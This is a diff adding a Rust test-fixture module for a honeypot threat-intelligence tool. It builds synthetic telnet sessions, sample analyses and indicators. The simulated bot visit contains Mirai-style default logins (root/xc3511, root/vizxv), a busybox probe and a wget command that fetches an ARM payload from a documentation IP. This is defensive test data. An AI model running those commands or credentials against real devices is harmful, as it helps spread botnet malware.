@@ -1,0 +1,176 @@
+//! Makes events, indicators and analyses for tests.
+
+use std::net::{IpAddr, Ipv4Addr, SocketAddr};
+use ukai_model::{
+    Analysis, CaptureHow, CloseReason, Confidence, Event, EventId, EventKind, Evidence,
+    EvidenceKind, FileType, Flow, Indicator, IndicatorId, Observable, ObservableKind, Outcome,
+    PeerText, Role, SCHEMA_VERSION, SensorId, SessionId, Sha256, Timestamp, Tlp, Transport,
+};
+
+/// 2023-11-14T22:13:20Z.
+pub(super) const START_S: u64 = 1_700_000_000;
+
+pub(super) fn at(seconds: u64) -> Timestamp {
+    Timestamp::from_secs(START_S + seconds)
+}
+
+pub(super) fn sensor() -> SensorId {
+    "test".parse().unwrap()
+}
+
+/// The low bits of a random number land in bits that an identity keeps.
+pub(super) fn session_id(n: u32, time: Timestamp) -> SessionId {
+    SessionId::new(time, u128::from(n) << 32)
+}
+
+pub(super) fn event_id(n: u32, time: Timestamp) -> EventId {
+    EventId::new(time, u128::from(n) << 32)
+}
+
+pub(super) fn ip(n: u8) -> IpAddr {
+    Ipv4Addr::new(192, 0, 2, n).into()
+}
+
+pub(super) fn flow(source: u8) -> Flow {
+    Flow::new(
+        Transport::Tcp,
+        SocketAddr::new(ip(source), 40_000),
+        "198.51.100.1:23".parse().unwrap(),
+    )
+}
+
+/// Event number `n`, of session `session` from `192.0.2.{source}`.
+pub(super) fn event(
+    n: u32,
+    time: Timestamp,
+    session: SessionId,
+    source: u8,
+    kind: EventKind,
+) -> Event {
+    Event {
+        v: SCHEMA_VERSION,
+        id: event_id(n, time),
+        time,
+        sensor: sensor(),
+        session: Some(session),
+        flow: Some(flow(source)),
+        kind,
+    }
+}
+
+pub(super) fn open() -> EventKind {
+    EventKind::SessionOpen { protocol: "telnet".into(), persona: "router-mips".into() }
+}
+
+pub(super) fn close() -> EventKind {
+    EventKind::SessionClose {
+        protocol: "telnet".into(),
+        reason: CloseReason::Peer,
+        duration_ms: 1_500,
+        bytes_in: 120,
+        bytes_out: 4_000,
+        recorded: true,
+    }
+}
+
+pub(super) fn login(user: &str, password: &str, success: bool) -> EventKind {
+    EventKind::LoginAttempt {
+        protocol: "telnet".into(),
+        user: user.into(),
+        password: password.into(),
+        success,
+    }
+}
+
+pub(super) fn command(line: &str) -> EventKind {
+    EventKind::CommandInput { line: line.into(), unknown: Vec::new() }
+}
+
+pub(super) fn download(url: &str) -> EventKind {
+    EventKind::DownloadRequest { url: url.into(), tool: "wget".into() }
+}
+
+pub(super) fn captured(sha256: Sha256, name: &str) -> EventKind {
+    EventKind::SampleCaptured {
+        sha256,
+        size: 1_234,
+        how: CaptureHow::Fetched,
+        name: Some(name.into()),
+        url: Some(PeerText::from(format!("http://203.0.113.9/{name}").as_str())),
+    }
+}
+
+/// A bot's visit: six events within two seconds. Numbers from `n * 10` on are used.
+pub(super) fn visit(n: u32, time: Timestamp, source: u8) -> Vec<Event> {
+    let session = session_id(n, time);
+    let kinds = [
+        open(),
+        login("root", "xc3511", false),
+        login("root", "vizxv", true),
+        command("enable; sh; /bin/busybox MIRAI"),
+        command("wget http://203.0.113.9/arm -O- >.x"),
+        close(),
+    ];
+    let make = |(i, kind): (u32, EventKind)| {
+        let step = Timestamp::from_millis(time.millis() + u64::from(i) * 300);
+        event(n * 10 + i, step, session, source, kind)
+    };
+    (0..).zip(kinds).map(make).collect()
+}
+
+pub(super) fn analysis(sha256: Sha256, started: Timestamp, outcome: Outcome) -> Analysis {
+    Analysis {
+        sha256,
+        engine: "static".into(),
+        engine_version: 1,
+        started,
+        duration_ms: 3,
+        outcome,
+        size: 1_234,
+        file_type: Some(FileType {
+            name: "elf".into(),
+            mime: "application/x-executable".into(),
+            description: "ELF 32-bit LSB executable, ARM".into(),
+        }),
+        hashes: None,
+        elf: None,
+        entropy: 6.5,
+        observables: Vec::new(),
+        strings: vec!["/bin/busybox".into()],
+        commands: Vec::new(),
+        notes: Vec::new(),
+    }
+}
+
+pub(super) fn indicator(value: &str, role: Role, seen: Timestamp) -> Indicator {
+    let observable = Observable { kind: ObservableKind::Domain, value: value.into() };
+    Indicator {
+        id: IndicatorId::of(&observable, role),
+        observable,
+        role,
+        confidence: Confidence::new(60),
+        tlp: Tlp::Green,
+        first_seen: seen,
+        last_seen: seen,
+        valid_until: Timestamp::from_secs(seen.secs() + 86_400),
+        evidence: Vec::new(),
+        evidence_count: 0,
+        withheld: None,
+    }
+}
+
+pub(super) fn evidence(
+    time: Timestamp,
+    session: Option<SessionId>,
+    sample: Option<Sha256>,
+) -> Evidence {
+    Evidence {
+        kind: EvidenceKind::StaticAnalysis,
+        time,
+        event: None,
+        session,
+        sensor: Some(sensor()),
+        sample,
+        detail: "plain at offset 17".into(),
+    }
+}
